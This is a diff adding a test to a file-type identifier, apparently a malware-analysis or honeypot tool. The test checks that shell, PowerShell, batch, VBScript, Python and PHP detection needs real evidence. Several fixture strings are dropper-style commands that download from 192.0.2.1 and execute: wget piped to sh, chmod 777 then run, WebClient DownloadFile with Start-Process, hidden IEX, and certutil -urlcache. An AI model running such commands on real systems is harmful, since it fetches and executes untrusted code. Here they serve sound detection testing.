@@ -165,3 +165,38 @@ def test_texts_narrow_and_wide_in_their_order() -> None:
 def test_texts_are_limited() -> None:
     assert len(list(strings(b"abcdef\0" * 10_000))) == STRINGS_MAX
     assert max(len(t.text) for t in strings(b"a" * 100_000)) == 1024
+
+
+SHELL, POWERSHELL, PYTHON = "POSIX shell script", "PowerShell script", "Python script"
+SCRIPTS_AND_NEAR_MISSES = [
+    (b"for i in arm mips; do wget http://192.0.2.1/$i; done\n", SHELL),
+    (b"BIN=x\nwget -q 192.0.2.1/$BIN\nchmod 777 $BIN\n./$BIN\n", SHELL),
+    (b"if [ -f /tmp/x ]\nthen\n  a\nfi\n", SHELL),
+    (b"wget 192.0.2.1/x -O- | sh", SHELL),
+    (b"wget is a program.\ncurl is another.\n", "ASCII text"),
+    (b"for the record\nfor ever in our hearts, do not forget\n", "ASCII text"),
+    (b"echo of the past\nwhile it lasted\n", "ASCII text"),
+    (b"$x = New-Object Net.WebClient\n$x.DownloadFile('http://192.0.2.1/a','a')\nStart-Process -FilePath a\n", POWERSHELL),
+    (b"powershell -nop -w hidden -c IEX(1)", POWERSHELL),
+    (b"$92\r\n# Server\r\nredis_version:7.0.0\r\nredis_mode:standalone\r\n\r\n", "ASCII text"),
+    (b"$5 a piece\n$6 for two\n", "ASCII text"),
+    (b"$-1\r\n", "ASCII text"),
+    (b"Set-top boxes\nnew-object lessons\ninvoke-and-wait\n", "ASCII text"),
+    (b"import os, sys\ndef main(x):\n    print(x)\n", PYTHON),
+    (b"from socket import *\n", PYTHON),
+    (b"import duties rose\nfrom Monday on\ndef leppard\n", "ASCII text"),
+    (b"import java.util.List;\n", "ASCII text"),
+    (b"@echo off\ncertutil -urlcache -f http://192.0.2.1/a a\nstart a\n", "Windows batch script"),
+    (b"rem sleep is deep\n@echoes of it\n", "ASCII text"),
+    (b'Set s = CreateObject("WScript.Shell")\ns.Run "x"\n', "VBScript script"),
+    (b"set menu\ndim lights\n", "ASCII text"),
+    (b"<?php echo 1;", "PHP script"),
+    (b"<? what\n", "ASCII text"),
+    (b"+OK\r\n", "ASCII text"),
+    (b"# only\n# remarks\n", "ASCII text"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("data", "description"), SCRIPTS_AND_NEAR_MISSES)
+def test_a_script_needs_evidence(data: bytes, description: str) -> None:
+    assert identify(data).description == description
